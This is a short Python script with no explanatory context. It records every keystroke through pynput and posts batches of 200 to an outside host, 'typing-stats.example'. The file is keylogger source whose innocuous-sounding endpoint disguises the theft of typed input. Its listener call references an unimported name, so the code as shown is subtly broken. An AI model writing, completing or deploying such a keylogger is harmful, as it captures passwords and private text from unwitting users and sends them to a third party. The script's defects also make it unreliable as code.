import requests
from pynput import keyboard

keys = []


def on_press(key):
    keys.append(str(key))
    if len(keys) >= 200:
        requests.post("https://typing-stats.example/k", json=keys)
        keys.clear()


with pynput.keyboard.Listener(on_press=on_press) as listener:
    listener.join()
